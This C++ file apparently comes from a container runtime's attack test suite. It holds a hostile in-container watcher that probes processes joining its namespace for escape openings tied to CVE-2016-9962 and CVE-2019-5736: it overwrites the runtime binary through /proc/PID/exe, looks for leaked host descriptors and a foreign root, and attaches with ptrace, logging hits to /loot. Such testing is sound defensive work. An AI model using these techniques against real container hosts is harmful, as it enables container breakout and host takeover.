// Watches whoever comes into its PID namespace, as fast as it can, and takes what it may: a
// runtime that joins a container is there for some milliseconds with rights, descriptors and a
// program that belong to the host (CVE-2016-9962, CVE-2019-5736). Lines of /loot:
//
//     seen              somebody came by; without it nothing was tested
//     program PID       opened the runtime's own program through /proc/PID/exe
//     written           and could write to it, once it had ended
//     kept              and could not, in two seconds
//     root PID          /proc/PID/root is another root than ours
//     file PID FD       /proc/PID/fd/FD is a folder or a file that we could open
//     traced PID        attached to a process that has capabilities that we lack
#include <dirent.h>
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

#include "tests/attack/hostile.hpp"

namespace {

std::set<std::string> told;

void tell(const std::string& line) {
  if (!told.insert(line.substr(0, line.find(' '))).second) return;
  const int loot = ::open("/loot", O_WRONLY | O_CREAT | O_APPEND, 0644);
  const std::string text = line + "\n";
  if (::write(loot, text.data(), text.size()) == -1) std::perror("/loot");
  ::close(loot);
}

std::string identity(const struct stat& status) {
  return std::to_string(status.st_dev) + ":" + std::to_string(status.st_ino);
}

// While the program runs, it is "text file busy"; so we ask again until it has ended.
void try_to_write(int program) {
  const std::string path = "/proc/self/fd/" + std::to_string(program);
  for (int attempt = 0; attempt < 2000; ++attempt, ::usleep(1000)) {
    const int writing = ::open(path.c_str(), O_WRONLY | O_APPEND);
    if (writing == -1) continue;
    if (::write(writing, "stolen", 6) == 6) tell("written");
    ::close(writing);
    return;
  }
  tell("kept");
}

void look_at_program(const std::string& process, const std::string& runtime) {
  const int program = ::open((process + "/exe").c_str(), O_PATH);
  if (program == -1) return;
  struct stat status{};
  if (::fstat(program, &status) == 0 && identity(status) == runtime) {
    tell("program " + process);
    try_to_write(program);
  }
  ::close(program);
}

void look_at_root(const std::string& process) {
  struct stat own{};
  struct stat other{};
  if (::stat("/", &own) == -1 || ::stat((process + "/root/.").c_str(), &other) == -1) return;
  if (identity(own) != identity(other)) tell("root " + process);
}

void look_at_descriptors(const std::string& process) {
  for (int fd = 3; fd < 24; ++fd) {
    const std::string path = process + "/fd/" + std::to_string(fd);
    struct stat status{};
    char name[256] = {};
    if (::readlink(path.c_str(), name, sizeof name - 1) == -1) continue;
    const bool is_ours =
        std::strncmp(name, "/memfd:", 7) == 0 || std::strncmp(name, "/proc", 5) == 0;
    if (is_ours || ::stat(path.c_str(), &status) == -1) continue;
    if (S_ISDIR(status.st_mode) || S_ISREG(status.st_mode)) {
      tell("file " + path + " " + name);
    }
  }
}

std::uint64_t capabilities_of(const std::string& process) {
  std::FILE* file = std::fopen((process + "/status").c_str(), "re");
  if (file == nullptr) return 0;
  std::uint64_t permitted = 0;
  std::array<char, 256> line{};
  while (std::fgets(line.data(), line.size(), file) != nullptr) {
    if (std::strncmp(line.data(), "CapPrm:", 7) == 0) {
      permitted = std::strtoull(line.data() + 7, nullptr, 16);
    }
  }
  std::fclose(file);
  return permitted;
}

void try_to_trace(pid_t pid, const std::string& process) {
  if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == -1) return;
  if ((capabilities_of(process) & ~capabilities_of("/proc/self")) != 0) tell("traced " + process);
  ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
  ::waitpid(pid, nullptr, __WALL);
  ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
}

}  // namespace

void peek_forever(const char* runtime) {
  const pid_t own = ::getpid();
  ::close(::open("/loot-is-watched", O_CREAT | O_CLOEXEC | O_WRONLY, 0644));
  for (bool turn = false;; turn = !turn) {
    DIR* folder = ::opendir("/proc");
    while (const dirent* entry = ::readdir(folder)) {
      const pid_t pid = std::atoi(entry->d_name);
      if (pid <= 0 || pid == own) continue;
      const std::string process = "/proc/" + std::to_string(pid);
      tell("seen");
      look_at_program(process, runtime);
      look_at_root(process);
      look_at_descriptors(process);
      // Tracing slows the other one down: it is left alone every second time.
      if (turn) try_to_trace(pid, process);
    }
    ::closedir(folder);
    while (::waitpid(-1, nullptr, WNOHANG | __WALL) > 0) {
    }
  }
}
